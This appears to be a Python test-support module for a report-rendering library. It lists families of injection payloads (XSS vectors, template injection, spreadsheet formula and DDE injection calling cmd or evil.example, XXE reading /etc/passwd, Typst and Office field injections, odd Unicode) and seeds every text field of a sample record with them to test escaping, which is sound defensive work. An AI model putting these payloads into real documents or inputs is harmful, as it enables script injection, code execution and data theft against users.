"""What a client's files may hold that is not meant as text: payloads by family, and a record full of them.

Harmless: where one of them runs it calls ``pwned``, which a test defines.
"""

from collections.abc import Iterator, Sequence
from typing import Any

from sample_record import sample_record

from alignlib.result import Record

_JS = "javascript:pwned(1)"
_ON = ("load", "error", "focus", "toggle", "begin", "start", "pageshow", "animationend", "pointerenter", "wheel")

SCRIPTS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>pwned(1)</script>", "<SCRIPT>pwned(1)</SCRIPT>", "<script src=//evil.example/a.js></script>",
        "<script/src=data:,pwned(1)></script>", "<script\n>pwned(1)</script\n>",
        "<script type=module>pwned(1)</script>", "<scr<script>ipt>pwned(1)</scr</script>ipt>", "<script>pwned(1)//",
        "<script>pwned`1`</script>", "<script async defer>pwned(1)</script>", "<script nomodule>pwned(1)</script>",
        "<script x=>pwned(1)</script x>", "<script>/*</p>*/pwned(1)/**/</script>",
        "<script type=importmap>{}</script><script>pwned(1)</script>", "%3Cscript%3Epwned(1)%3C/script%3E",
        "<script>eval('pwn'+'ed(1)')</script>", "<script>setTimeout('pwned(1)')</script>",
        "<noscript><script>pwned(1)</script></noscript>",
    ),
    "out of an element": tuple(
        f"</{tag}><script>pwned(1)</script>"
        for tag in ("script", "style", "title", "textarea", "svg", "table", "td", "text", "tspan", "desc", "details",
                    "noscript", "xmp", "iframe", "template", "math", "select", "body")
    ),
    "out of an attribute": (
        '"><script>pwned(1)</script>', "'><script>pwned(1)</script>", '" onmouseover="pwned(1)', "' onfocus='pwned(1)",
        '" autofocus onfocus="pwned(1)" x="', "` onerror=`pwned(1)", '"/onload=pwned(1)//', '" style="x:expression(1)',
        '\' autofocus onfocus=pwned(1) tabindex=1 \'', '"><img src=x onerror=pwned(1)>', '\\"><svg onload=pwned(1)>',
        '" srcdoc="<script>parent.pwned(1)</script>', '" href="javascript:pwned(1)', '"]//><script>pwned(1)</script>',
    ),
    "out of a comment or a section": (
        "--><script>pwned(1)</script>", "--!><script>pwned(1)</script>", "<!--><script>pwned(1)</script>-->",
        "]]><script>pwned(1)</script>", "<![CDATA[<script>pwned(1)</script>]]>", "<!--<script>",
        "<!-- --!><svg onload=pwned(1)>", "<?xml version='1.0'?><x onload=pwned(1)/>", "<?php pwned(1) ?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;&x;&#x41;",
        "<!--[if gte IE 4]><script>pwned(1)</script><![endif]-->", "<%<script>pwned(1)</script>%>",
    ),
    "handlers": (
        *(f"<img src=x on{name}=pwned(1)>" for name in _ON), *(f"<svg on{name}=pwned(1)>" for name in _ON[:6]),
        "<body onload=pwned(1)>", "<details ontoggle=pwned(1) open>x", "<video onerror=pwned(1)><source src=x></video>",
        "<audio src=x onerror=pwned(1)>", "<marquee onstart=pwned(1)>x</marquee>", "<input autofocus onfocus=pwned(1)>",
        "<select autofocus onfocus=pwned(1)>", "<p tabindex=0 autofocus onfocus=pwned(1)>x",
        "<img/src/onerror=pwned(1)>", "<div onpointerrawupdate=pwned(1)>x</div>", "<style onload=pwned(1)></style>",
        "<link rel=x onerror=pwned(1)>", "<x contenteditable autofocus onfocus=pwned(1)>",
        "<image src=x onerror=pwned(1)>", "<img src=x:x onerror\t=\tpwned(1)>",
        "<div style=animation-name:x onanimationstart=pwned(1)>", "<dialog open oncancel=pwned(1)>x</dialog>",
    ),
    "addresses": (
        _JS, "JaVaScRiPt:pwned(1)", "java\tscript:pwned(1)", "java\nscript:pwned(1)", "\x01javascript:pwned(1)",
        "vbscript:pwned(1)", f"<a href={_JS}>x</a>", "<a href='&#106;avascript:pwned(1)'>x</a>",
        "<a href=javascript&colon;pwned(1)>x</a>", "<a href='jav&Tab;ascript:pwned(1)'>x</a>", f"[x]({_JS})",
        f"![x]({_JS})", f"<{_JS}>", "data:text/html,<script>pwned(1)</script>",
        "<a href=data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==>x</a>",
        "<a ping=//evil.example href=#>x</a>", "https://evil.example/?q=<script>pwned(1)</script>",
        "//evil.example/x.png", "file:///etc/passwd", r"\\evil.example\share\x", f"<area href={_JS}>",
        "blob:null/pwned", "<a href='//evil.example' target=_blank>x</a>", "url(javascript:pwned(1))",
    ),
    "frames and what loads": (
        f"<iframe src={_JS}></iframe>", "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
        "<frameset onload=pwned(1)>", f"<object data={_JS}></object>", "<object data=//evil.example/x.swf></object>",
        f"<embed src={_JS}>", "<applet code=x>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        f"<meta http-equiv=refresh content='0;url={_JS}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=//evil.example/>",
        "<base target=_top>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example>", "<link rel=attachment href=x>", "<img src=//evil.example/x.png>",
        "<img srcset='//evil.example/x.png 1x'>", "<video poster=//evil.example/x.png>",
        "<form action=//evil.example><input name=x></form>", f"<form><button formaction={_JS}>x</button></form>",
        f"<isindex type=image src=1 onerror=pwned(1) action={_JS}>", "<portal src=//evil.example>", "<bgsound src=x>",
        "<track src=//evil.example/x.vtt>", "<table background=//evil.example/x.png><td>x",
        "<input type=image src=//evil.example>",
    ),
    "drawings": (
        "<svg><script>pwned(1)</script></svg>", "<svg><script href=data:,pwned(1) /></svg>",
        f"<svg><a href={_JS}><text y=9>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values={_JS} /><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>", f"<svg><set attributeName=href to={_JS} /></svg>",
        "<svg><set onbegin=pwned(1) attributeName=x /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://ww"
        "w.w3.org/2000/svg><script>pwned(1)</script></svg>#x'/></svg>",
        "<svg><foreignObject><body onload=pwned(1)></foreignObject></svg>",
        "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>", "<svg><image href=//evil.example/x.png /></svg>",
        "<svg><image href=x onerror=pwned(1) /></svg>", "<svg><style>*{fill:url(//evil.example)}</style></svg>",
        "<svg><handler type=text/javascript ev:event=load>pwned(1)</handler></svg>",
        "<svg><title><script>pwned(1)</script></title></svg>",
        "<svg><desc><![CDATA[</desc><script>pwned(1)</script>]]></svg>", f"<math href={_JS}>x</math>",
        f"<math><mi xlink:href={_JS}>x</mi></math>",
        "<svg><filter><feImage href=//evil.example/x.png /></filter></svg>",
        "<svg><switch onload=pwned(1)></switch></svg>", "<svg><discard onbegin=pwned(1) /></svg>",
        "<svg/onload=pwned(1)//", "<svg><animateTransform onbegin=pwned(1) attributeName=transform>",
    ),
    "styles": (
        "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
        "@import url(//evil.example/x.css);", "<p style=background:url(//evil.example/x.png)>x",
        "<p style=x:expression(pwned(1))>x", "<p style=behavior:url(x.htc)>x",
        "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
        "}body{background:url(//evil.example)}", "</style><style>:root{--sales:url(//evil.example)}",
        "<p style=-moz-binding:url(x.xml#x)>x", ";color:red;/*", "*/}@import '//evil.example';/*",
    ),
    "mutations": (
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)>",
        "<svg></p><style><a id='</style><img src=x onerror=pwned(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(1)>",
        "<table><td><svg><desc><td></desc><script>pwned(1)</script>",
        "<select><template><style><!--</style><a rel='--></style"
        "></template></select><img id=x src=x onerror=pwned(1)>'>",
        "<listing>&lt;img src=x onerror=pwned(1)&gt;</listing>", "<xmp><img src=x onerror=pwned(1)></xmp>",
        "<plaintext><script>pwned(1)</script>", "<template><script>pwned(1)</script></template>",
        "<template shadowrootmode=open><script>pwned(1)</script></template>", "<x-y is=x><img src=x onerror=pwned(1)>",
        "<a title='</title><script>pwned(1)</script>'>", "<p id='toString'><p id=__proto__>",
        "<a id=pwned><a id=pwned name=x href=x>",
    ),
    "entities and encodings": (
        "&lt;script&gt;pwned(1)&lt;/script&gt;", "&#60;script&#62;pwned(1)&#60;/script&#62;",
        "&#x3c;script&#x3e;pwned(1)&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;pwned(1)",
        "\\u003cscript\\u003epwned(1)\\u003c/script\\u003e", "\\x3cscript\\x3epwned(1)\\x3c/script\\x3e",
        "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-", "＜script＞pwned(1)＜/script＞", "‹script›pwned(1)‹/script›",
        "\ufeff<script>pwned(1)</script>", "\u2028<script>pwned(1)</script>\u2029",
        "\u202e<script>pwned(1)</script>\u202c", "<scr\x00ipt>pwned(1)</scr\x00ipt>", "<\x00script>pwned(1)</script>",
        "\u2066<img src=x onerror=pwned(1)>\u2069", "<ſcript>pwned(1)</ſcript>", "<script\u3000>pwned(1)</script>",
        "\x1b]8;;javascript:pwned(1)\x07x\x1b]8;;\x07", "<\u200bscript>pwned(1)</script>", "¼script¾pwned(1)¼/script¾",
    ),
    "templates": (
        "{{7*7}}", "{{ config }}", "{% raw %}", "{% endraw %}{{7*7}}", "{%- include '/etc/passwd' -%}", "{# {{7*7}} #}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ pictures }}",
        "{{ doc.record | safe }}", "{{ self._TemplateReference__context }}", "{0.__class__}", "%(client)s", "%s%n",
        "$client", "{client}", "[[7*7]]", "@{7*7}", "*{7*7}", "{{constructor.constructor('pwned(1)')()}}",
    ),
    "polyglots": (
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwned(1) )//%0D%0A//</s'
        'tYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned(1)//>',
        "'\">><marquee><img src=x onerror=pwned(1)></marquee></plaintext\\></|\\><plaintext/onmouseover=pwned(1)>",
        "';pwned(1)//\";pwned(1)//--></script><script>pwned(1)</script>", "<svg/onload=pwned(1)>{{7*7}}${7*7}=1+1",
        "%0d%0a<script>pwned(1)</script>", "=<script>pwned(1)</script>", "'-pwned(1)-'", '"-pwned(1)-"',
        "\\'-pwned(1)//", "${pwned(1)}",
    ),
}  # fmt: skip

FORMULAS: tuple[str, ...] = (
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(1)'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=HYPERLINK(CONCATENATE(\"http://evil.example/?\",A1))", "=WEBSERVICE(\"http://evil.example\")",
    "=FILTERXML(WEBSERVICE(\"http://evil.example\"),\"//x\")", "=IMPORTXML(\"http://evil.example\",\"//x\")",
    "=IMPORTDATA(\"http://evil.example\")", "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)", "=IMPORTFEED(\"http://evil.example\")",
    "=IMAGE(\"http://evil.example/x.png\")", "=RTD(\"x\",,\"y\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    "=REGISTER.ID(\"kernel32\",\"x\")", "=EXEC(\"calc\")", "=INDIRECT(\"'[x.xlsx]Sheet1'!A1\")",
    "='http://evil.example/[x.xlsx]Sheet1'!A1", "='file:///etc/passwd'#$x.A1",
    "='\\\\evil.example\\share\\[x.xlsx]S'!A1", "=A1", "=$A$1:$Z$99", "=R1C1", "=R[-1]C[0]+1", "{=SUM(A1:A9)}",
    "{=1+1}", "=LAMBDA(x,x+1)(1)", "=LET(x,1,x+1)", "=ARRAYFORMULA(1+1)", "=_xlfn.SINGLE(A1)", "=@A1", "=SUM(A1:A9)#",
    "=TRUE", "=#REF!", "#REF!", "#N/A", "+1", "-1", "+1+1", "-1-1", "--1", "+A1", "-A1", "@A1", "@SUM(1,1)", "%1",
    "|calc", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "\"=1+1\"", "\"=1+1", ",=1+1", ";=1+1",
    "=1+1\n=2+2", "=\"a\"&\"b\"",
    "=CHAR(61)", "==1+1", "=+1", "=-1", "=(1+1)", "= 1+1", "=\t1+1", "=NOW()", "=CELL(\"filename\")",
    "=INFO(\"directory\")", "=UNICODE(\"x\")", "http://evil.example/x", "https://evil.example/?q=1",
    "ftp://evil.example/x", "mailto:a", "file:///etc/passwd", "internal:Sheet1!A1", "external:x.xlsx#Sheet1!A1",
    "\\\\evil.example\\share\\x.xlsx", "javascript:pwned(1)", "0012", "1e5", "1,234", "12.5%", "2026-03-31", "TRUE",
    "NaN", "inf", "1/2", "3-4",
)  # fmt: skip

TYPST: tuple[str, ...] = (
    "#sys", "#sys.inputs", "#read(\"/etc/passwd\")", "#import \"@preview/x:1.0.0\"", "#include \"report.typ\"",
    "#image(\"x.png\")", "#eval(\"1+1\")", "#panic(\"x\")", "#link(\"http://evil.example\")[x]", "#pagebreak()",
    "#set page(fill: red)", "#show: x => []", "#{7*7}", "#let x = 1", "#metadata(1)", "$x^2$", "$ sum_(i=1)^n $",
    "*bold*", "_italic_", "`raw`", "```rust x```", "= Heading", "== Heading", "- item", "+ item", "/ term: x",
    "<label>", "@reference", "// comment", "/* comment */", "/* open", "\\u{1F600}", "\\#", "\\", "~", "---", "...",
    "[content]", "]", "[", "#[", "#(", "{", "}", "\"", "'", "https://evil.example/x", "#json.decode(\"{}\")",
    "#plugin(\"x.wasm\")", "#bibliography(\"x.bib\")", "#context here()", "#outline()", "#counter(page).update(99)",
)  # fmt: skip

OFFICE: tuple[str, ...] = (
    "_x000D_", "_x0041_", "_x0000_", "_X000D_", "&P", "&[File]", "&[Path]&[File]", "&D&T", "&F&A",
    "&G", "&&P", "&\"Arial,Bold\"&24x", "&K FF0000", "<a:fld type=\"slidenum\">", "<#>", "‹#›", "{PAGE}",
    "{ INCLUDETEXT \"x\" }", "{ DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" }", "]]>", "</a:t></a:r>", "</t></si>",
    "</c></row></sheetData>", "<f>1+1</f>", "<hyperlink ref=\"A1\" r:id=\"rId9\"/>", "ppaction://program?calc",
    "ppaction://hlinkfile", "xml:space=\"preserve\"", "  two  spaces  ", " leading", "trailing ", "line\nbreak",
    "carriage\rreturn", "both\r\nbreaks", "tab\tstop", "vertical\x0btab", "form\x0cfeed",
)  # fmt: skip

LONG = "Verwaltungsgesellschaft" * 13 + "!"  # of 300 characters, without a place to break
ODD: tuple[str, ...] = (
    LONG, "a name that breaks " * 15 + "and ends so here", "x" * 2_000, "חברת הדוגמה בע״מ", "شركة المثال المحدودة",
    "English with עברית in it, 45 %", "\u202bשלום\u202c world", "\u202eevil\u202c", "\u2067right\u2069 left",
    "👩‍👩‍👧‍👦 family", "🇩🇪🇧🇷 flags", "👍🏽 tone", "1️⃣ keycap", "❤️", "Zalgo z̷̧̛͓̤̮͖͈͎̦͚̗͌̃̾̈́̀̕͝", "e\u0301 é",
    "ﬁ ﬂ ligatures", "İıſß", "Ὀδυσσεύς Σωκράτης", "Щедрик Ёлка Їжак", "株式会社サンプル", "한국 표본", "ตัวอย่าง",
    "उदाहरण", "\x00",
    "a\x00b", "\x07\x08\x1b[31m", "\x7f\x80\x9f", "\ufffe\uffff", "\ue000", "\U0010ffff", "\u00ad soft\u00adhyphen",
    "zero\u200bwidth\u200d\u200c", "\u2060", "\u2028\u2029", "", " ", "\u00a0", "\t", "\n", "ﷺ", "𝕬𝖑𝖎𝖌𝖓",
    "\U000e0041tag", "½ ² ™ № ℮",
)  # fmt: skip

MARKUP: tuple[str, ...] = tuple(dict.fromkeys(payload for family in SCRIPTS.values() for payload in family))
ALL: tuple[str, ...] = tuple(dict.fromkeys((*MARKUP, *FORMULAS, *TYPST, *OFFICE, *ODD)))

# what is not text: identifiers, kinds and figures that the models or the charts check themselves
_FIXED = {
    "diagnostic", "key", "level", "shape", "unit", "direction", "name", "kind", "column", "schema_version", "currency",
    "period_start", "period_end", "as_of", "kit_version", "play", "sha256", "stage", "settings_sha256",
    "invited", "answered", "rules_sha256", "since_sha256",
}  # fmt: skip
DRAWN = {"finding", "verdict", "claimant", "holds_where", "team", "method"}  # by which a chart knows what it draws


def poisoned_record(payloads: Sequence[str], shift: int = 0, keep: frozenset[str] | set[str] = frozenset()) -> Record:
    """The sample record with a payload in every text field, another one in each, beginning with the one at ``shift``.

    ``keep`` names fields that stay as they are, so that what hangs on them is still drawn.
    """
    turn = _turn(payloads, shift)
    record = sample_record(
        versions={"python": "3.11", "duckdb": "2"}, timezone="UTC", path="any", seed=1, since_sha256="ab" * 32
    )
    data = _poisoned(record.model_dump(mode="json"), turn, _FIXED | keep)
    for result in data["results"].values():
        result["settings"] |= {
            "labels": [next(turn), next(turn)],
            next(turn) or "a": next(turn),
            "meanings": {"x": next(turn)},
        }
        result["sources"] += [{"file": next(turn), "table": next(turn), "rows": 1, "sha256": "cd" * 32}]
        counted = {"read": 3, "used": 1, "rejected": 1, "excluded": 1, "reasons": {next(turn): 1, next(turn): 1}}
        result["row_counts"] += [{"file": next(turn), "table": next(turn), **counted}]
    return Record.model_validate(data)


def texts(record: Record) -> list[str]:
    """Every text field of a record that ``poisoned_record`` fills."""
    return list(_texts(record.model_dump(mode="json")))


def _turn(payloads: Sequence[str], shift: int) -> Iterator[str]:
    at = shift
    while True:
        yield payloads[at % len(payloads)]
        at += 1


def _poisoned(value: Any, turn: Iterator[str], fixed: set[str], name: str = "") -> Any:
    if isinstance(value, dict):
        return {key: _poisoned(inner, turn, fixed, key) for key, inner in value.items()}
    if isinstance(value, list):
        return [_poisoned(inner, turn, fixed, name) for inner in value]
    return next(turn) if isinstance(value, str) and name not in fixed else value


def _texts(value: Any, name: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from _texts(inner, key)
    elif isinstance(value, list):
        for inner in value:
            yield from _texts(inner, name)
    elif isinstance(value, str) and name not in _FIXED:
        yield value
